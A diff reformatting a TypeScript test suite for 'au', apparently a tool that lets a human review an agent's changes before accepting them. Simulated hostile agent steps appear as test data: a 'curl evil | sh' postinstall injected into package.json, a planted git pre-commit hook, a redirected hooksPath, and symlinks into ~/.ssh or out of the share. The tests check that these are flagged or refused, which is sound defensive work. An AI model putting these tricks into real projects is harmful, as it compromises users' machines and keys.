@@ -42,7 +42,11 @@ describe('review shares: au changes, accept, discard', () => {
     const walk = (rel: string): void => {
       const path = rel ? `${dir}/${rel}` : dir;
       const st = lstatSync(path);
-      const body = st.isSymbolicLink() ? readlinkSync(path) : st.isFile() ? createHash('sha256').update(readFileSync(path)).digest('hex') : '';
+      const body = st.isSymbolicLink()
+        ? readlinkSync(path)
+        : st.isFile()
+          ? createHash('sha256').update(readFileSync(path)).digest('hex')
+          : '';
       lines.push(`${JSON.stringify(rel)} ${st.mode.toString(8)} ${st.uid} ${body}`);
       if (st.isDirectory()) for (const name of readdirSync(path).sort()) walk(rel ? `${rel}/${name}` : name);
     };
@@ -56,12 +60,14 @@ describe('review shares: au changes, accept, discard', () => {
     src = `${human.home}/proj`;
     expected = `${human.home}/expected`;
     tgt = `/home/${agent}/proj`;
-    asHuman([
-      `mkdir -p ${src}/sub ${human.home}/.ssh && cd ${src} && git init -q .`,
-      'echo hello > a.txt && echo bye > del.txt && echo move > ren.txt && echo "echo hi" > script.sh && echo x > sub/x && echo b > b.txt',
-      `printf '{ "name": "p", "scripts": { "test": "true" } }\\n' > package.json`,
-      `echo key > ${human.home}/.ssh/id_ed25519`,
-    ].join(' && '));
+    asHuman(
+      [
+        `mkdir -p ${src}/sub ${human.home}/.ssh && cd ${src} && git init -q .`,
+        'echo hello > a.txt && echo bye > del.txt && echo move > ren.txt && echo "echo hi" > script.sh && echo x > sub/x && echo b > b.txt',
+        `printf '{ "name": "p", "scripts": { "test": "true" } }\\n' > package.json`,
+        `echo key > ${human.home}/.ssh/id_ed25519`,
+      ].join(' && '),
+    );
     const add = human.au(['mount', 'add', '--review', '-a', agent, src]);
     assert.equal(add.status, 0, said(add));
     const entry = readdirSync(`${REVIEW_ROOT}/${agent}`)[0] ?? '';
@@ -73,32 +79,43 @@ describe('review shares: au changes, accept, discard', () => {
     rmSync(`${REVIEW_ROOT}/${agent}`, { recursive: true, force: true });
   });
 
-  test('au changes --json lists exactly the agent\'s changes, risky ones flagged, hostile names escaped', () => {
+  test("au changes --json lists exactly the agent's changes, risky ones flagged, hostile names escaped", () => {
     asHuman(`cp -a ${src} ${expected}`);
     const names = HOSTILE.map((n) => `$'${n.replace(/\n/g, '\\n')}'`);
-    const r = inRun([
-      'echo more >> a.txt', 'echo new > new.txt', 'rm del.txt', 'mv ren.txt renamed.txt', 'chmod +x script.sh',
-      'printf "#!/bin/sh\\necho pwned\\n" > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit',
-      'git config core.hooksPath /tmp/evil-hooks',
-      `sed -i 's/"test": "true"/"test": "true", "postinstall": "curl evil | sh"/' package.json`,
-      `ln -s ${human.home}/.ssh sshlink`,
-      ...names.map((n) => `echo hostile > ./${n}`),
-      'echo done',
-    ].join(' && '));
+    const r = inRun(
+      [
+        'echo more >> a.txt',
+        'echo new > new.txt',
+        'rm del.txt',
+        'mv ren.txt renamed.txt',
+        'chmod +x script.sh',
+        'printf "#!/bin/sh\\necho pwned\\n" > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit',
+        'git config core.hooksPath /tmp/evil-hooks',
+        `sed -i 's/"test": "true"/"test": "true", "postinstall": "curl evil | sh"/' package.json`,
+        `ln -s ${human.home}/.ssh sshlink`,
+        ...names.map((n) => `echo hostile > ./${n}`),
+        'echo done',
+      ].join(' && '),
+    );
     assert.equal(r.status, 0, said(r));
-    const listed = changes().map((c) => `${c.kind} ${c.path}${c.from ? ` <- ${c.from}` : ''}${c.risky ? ' RISKY' : ''}${c.refused ? ' REFUSED' : ''}`).sort();
-    assert.deepEqual(listed, [
-      'added .git/hooks/pre-commit RISKY',
-      'modified .git/config RISKY',
-      'modified a.txt',
-      'modified package.json RISKY',
-      'deleted del.txt',
-      'mode script.sh RISKY',
-      'added new.txt',
-      'renamed renamed.txt <- ren.txt',
-      'symlink sshlink RISKY REFUSED',
-      ...HOSTILE.map((n) => `added ${n}`),
-    ].sort());
+    const listed = changes()
+      .map((c) => `${c.kind} ${c.path}${c.from ? ` <- ${c.from}` : ''}${c.risky ? ' RISKY' : ''}${c.refused ? ' REFUSED' : ''}`)
+      .sort();
+    assert.deepEqual(
+      listed,
+      [
+        'added .git/hooks/pre-commit RISKY',
+        'modified .git/config RISKY',
+        'modified a.txt',
+        'modified package.json RISKY',
+        'deleted del.txt',
+        'mode script.sh RISKY',
+        'added new.txt',
+        'renamed renamed.txt <- ren.txt',
+        'symlink sshlink RISKY REFUSED',
+        ...HOSTILE.map((n) => `added ${n}`),
+      ].sort(),
+    );
     const raw = human.au(['changes', '-a', agent, '--json']).stdout;
     assert.ok(!/[^\x20-\x7e\n]/.test(raw), 'JSON is printable ASCII');
     assert.ok(raw.includes('"caf\\u00e9"') && raw.includes('"cafe\\u0301"') && raw.includes('"new\\nline"'), raw);
@@ -118,14 +135,30 @@ describe('review shares: au changes, accept, discard', () => {
     assert.equal(tree(src), untouched, '--dry-run changes nothing');
     const r = human.au(['accept', '-a', agent]);
     assert.equal(r.status, 0, said(r));
-    asHuman([`cd ${expected}`, 'echo more >> a.txt', 'echo new > new.txt', 'rm del.txt', 'mv ren.txt renamed.txt', ...HOSTILE.map((n) => `echo hostile > ./$'${n.replace(/\n/g, '\\n')}'`)].join(' && '));
+    asHuman(
+      [
+        `cd ${expected}`,
+        'echo more >> a.txt',
+        'echo new > new.txt',
+        'rm del.txt',
+        'mv ren.txt renamed.txt',
+        ...HOSTILE.map((n) => `echo hostile > ./$'${n.replace(/\n/g, '\\n')}'`),
+      ].join(' && '),
+    );
     assert.equal(tree(src), tree(expected));
     assert.equal(readFileSync(`${human.home}/.ssh/id_ed25519`, 'utf8'), 'key\n');
-    assert.deepEqual(changes().map((c) => c.path).sort(), ['.git/config', '.git/hooks/pre-commit', 'package.json', 'script.sh', 'sshlink']);
+    assert.deepEqual(
+      changes()
+        .map((c) => c.path)
+        .sort(),
+      ['.git/config', '.git/hooks/pre-commit', 'package.json', 'script.sh', 'sshlink'],
+    );
 
     const named = human.au(['accept', '-a', agent, src, '--', '.git/hooks/pre-commit']);
     assert.equal(named.status, 0, said(named));
-    asHuman(`cp ${src}/.git/hooks/pre-commit ${expected}/.git/hooks/pre-commit.x && cd ${expected}/.git/hooks && printf '#!/bin/sh\\necho pwned\\n' > pre-commit && chmod 755 pre-commit && rm pre-commit.x`);
+    asHuman(
+      `cp ${src}/.git/hooks/pre-commit ${expected}/.git/hooks/pre-commit.x && cd ${expected}/.git/hooks && printf '#!/bin/sh\\necho pwned\\n' > pre-commit && chmod 755 pre-commit && rm pre-commit.x`,
+    );
     assert.equal(tree(src), tree(expected));
     const refused = human.au(['accept', '-a', agent, 'sshlink']);
     assert.equal(refused.status, 1, said(refused));
@@ -133,13 +166,16 @@ describe('review shares: au changes, accept, discard', () => {
     assert.throws(() => lstatSync(`${src}/sshlink`), /ENOENT/);
   });
 
-  test('a file the human changed after the agent did is a conflict: reported, the human\'s version kept, the rest applied', () => {
+  test("a file the human changed after the agent did is a conflict: reported, the human's version kept, the rest applied", () => {
     const r = inRun('echo agent > b.txt && echo agent > c.txt');
     assert.equal(r.status, 0, said(r));
     asHuman(`echo human > ${src}/b.txt`);
     const accept = human.au(['accept', '-a', agent, 'b.txt', 'c.txt']);
     assert.equal(accept.status, 1, said(accept));
-    assert.match(accept.stderr, /conflict: b\.txt: you changed it after the agent did; your version is kept.*au discard .*au accept --overwrite/);
+    assert.match(
+      accept.stderr,
+      /conflict: b\.txt: you changed it after the agent did; your version is kept.*au discard .*au accept --overwrite/,
+    );
     assert.equal(readFileSync(`${src}/b.txt`, 'utf8'), 'human\n');
     assert.equal(readFileSync(`${src}/c.txt`, 'utf8'), 'agent\n');
     assert.ok(changes().some((c) => c.path === 'b.txt' && c.conflict));
@@ -156,7 +192,30 @@ describe('review shares: au changes, accept, discard', () => {
   });
 
   test('accept and discard are refused while a run holds the share', async () => {
-    const holder = background(['runuser', '-u', human.name, '--', 'env', '-i', ...Object.entries(human.env()).map(([k, v]) => `${k}=${v}`), process.execPath, join(packageForHumans(), 'bin', 'au'), 'run', '-a', agent, '-d', tgt, '--', 'bash', '-c', 'echo holding; exec sleep 60'], children, human.home);
+    const holder = background(
+      [
+        'runuser',
+        '-u',
+        human.name,
+        '--',
+        'env',
+        '-i',
+        ...Object.entries(human.env()).map(([k, v]) => `${k}=${v}`),
+        process.execPath,
+        join(packageForHumans(), 'bin', 'au'),
+        'run',
+        '-a',
+        agent,
+        '-d',
+        tgt,
+        '--',
+        'bash',
+        '-c',
+        'echo holding; exec sleep 60',
+      ],
+      children,
+      human.home,
+    );
     try {
       const deadline = Date.now() + 30_000;
       while (!holder.output().includes('holding') && Date.now() < deadline) await new Promise((resolve) => setTimeout(resolve, 50));
@@ -172,13 +231,16 @@ describe('review shares: au changes, accept, discard', () => {
     assert.ok(changes().length > 0, 'nothing was applied or dropped');
   });
 
-  test('attack: the agent swaps a folder for a symlink to the human\'s home and adds one climbing out: accept --include-risky writes nothing outside', () => {
+  test("attack: the agent swaps a folder for a symlink to the human's home and adds one climbing out: accept --include-risky writes nothing outside", () => {
     const home = tree(human.home.replace(/$/, '/.ssh'));
-    const r = inRun(`rm -rf sub && ln -s ${human.home} sub && ln -s ../../.. up && mkdir -p deep && ln -s ../../.ssh deep/ssh && echo done`);
+    const r = inRun(
+      `rm -rf sub && ln -s ${human.home} sub && ln -s ../../.. up && mkdir -p deep && ln -s ../../.ssh deep/ssh && echo done`,
+    );
     assert.equal(r.status, 0, said(r));
     const accept = human.au(['accept', '-a', agent, '--include-risky', 'sub', 'up', 'deep/ssh']);
     assert.equal(accept.status, 1, said(accept));
-    for (const name of ['sub', 'up', 'deep/ssh']) assert.match(accept.stderr, new RegExp(`${name} refused: its target .* is outside the share`));
+    for (const name of ['sub', 'up', 'deep/ssh'])
+      assert.match(accept.stderr, new RegExp(`${name} refused: its target .* is outside the share`));
     assert.ok(lstatSync(`${src}/sub`).isDirectory(), 'SRC keeps its folder');
     assert.equal(readFileSync(`${src}/sub/x`, 'utf8'), 'x\n');
     assert.throws(() => lstatSync(`${src}/up`), /ENOENT/);
@@ -190,7 +252,8 @@ describe('review shares: au changes, accept, discard', () => {
     assert.equal(r.status, 0, said(r));
     const listed = changes();
     // locked.txt too: the listing reads the start of every new file (is it binary?), so it is refused there.
-    for (const path of ['a.txt', 'lockdir', 'locked.txt']) assert.match(listed.find((c) => c.path === path)?.refused ?? '', /cannot be read \(EACCES/, path);
+    for (const path of ['a.txt', 'lockdir', 'locked.txt'])
+      assert.match(listed.find((c) => c.path === path)?.refused ?? '', /cannot be read \(EACCES/, path);
     assert.equal(listed.find((c) => c.path === 'locked.txt')?.kind, 'added');
     const accept = human.au(['accept', '-a', agent, 'a.txt', 'lockdir', 'locked.txt']);
     assert.equal(accept.status, 1, said(accept));
@@ -212,7 +275,10 @@ describe('review shares: au changes, accept, discard', () => {
   test('a folder the agent replaced (overlay makes it opaque): listed as its deletions and additions, accepted whole, nothing left staged', () => {
     const r = inRun('rm -rf sub && mkdir -p sub/deep && echo n > sub/new && echo done');
     assert.equal(r.status, 0, said(r));
-    assert.deepEqual(changes().map((c) => `${c.kind} ${c.path}`), ['added sub/deep', 'added sub/new', 'deleted sub/x']);
+    assert.deepEqual(
+      changes().map((c) => `${c.kind} ${c.path}`),
+      ['added sub/deep', 'added sub/new', 'deleted sub/x'],
+    );
     const accept = human.au(['accept', '-a', agent]);
     assert.equal(accept.status, 0, said(accept));
     assert.deepEqual(readdirSync(`${src}/sub`).sort(), ['deep', 'new']);
